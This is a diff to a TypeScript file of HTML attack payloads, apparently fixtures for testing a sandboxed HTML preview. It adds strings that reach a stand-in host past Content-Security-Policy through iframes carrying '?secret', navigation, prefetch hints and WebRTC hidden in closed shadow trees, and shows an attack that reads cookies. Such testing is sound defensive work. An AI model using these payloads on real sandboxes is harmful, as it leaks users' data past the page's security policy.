@@ -128,6 +128,20 @@ export const DEPARTURES = {
 /** An expression that opens a WebRTC connection, which sends a packet to `STUN`. */
 export const RTC = `(async (c) => { c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })(new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }))`;
 
+/** The script is escaped, because the runtime would add its loop guard to it. */
+const RTC_FRAME = `<iframe srcdoc="&lt;script>${RTC}&lt;/script>"></iframe>`;
+
+/** Ways to connect to `TARGET` or `STUN` that no Content-Security-Policy covers. */
+export const FRAMED_CONNECTIONS = {
+  'a parsed frame': '<iframe src="TARGET?secret"></iframe>'.repeat(10),
+  'a frame that a script adds': `<p>x</p><script>for (let i = 0; i < 10; i++) document.body.append(Object.assign(document.createElement('iframe'), { src: 'TARGET?' + i }));</script>`,
+  'a frame that is removed immediately': `<p>x</p><script>const frame = Object.assign(document.createElement('iframe'), { src: 'TARGET' }); document.body.append(frame); frame.remove();</script>`,
+  'a navigation of the preview': `<script>location.href = 'TARGET?secret';</script>`,
+  'a hint in the head': `<link rel="preconnect" href="TARGET"><link rel="dns-prefetch" href="TARGET"><link rel="prefetch" href="TARGET"><script type="speculationrules">{ "prefetch": [{ "urls": ["TARGET"] }] }</script><p>x</p>`,
+  'WebRTC in a closed declarative shadow tree': `<div><template shadowrootmode="closed">${RTC_FRAME}</template></div>`,
+  'WebRTC in a tree that setHTMLUnsafe parses': `<div></div><script>document.querySelector('div').setHTMLUnsafe(\`<p><template shadowrootmode="closed">${RTC_FRAME}</template></p>\`);</script>`,
+} as const;
+
 /** An attack for the `html` runtime. At the end, it tries to navigate its own frame to another site. */
 export const FRAME_ATTACK = `<p>attack</p><script type="module">${HELPERS}${NETWORK}
 await attempt('cookie', () => document.cookie || 'readable');
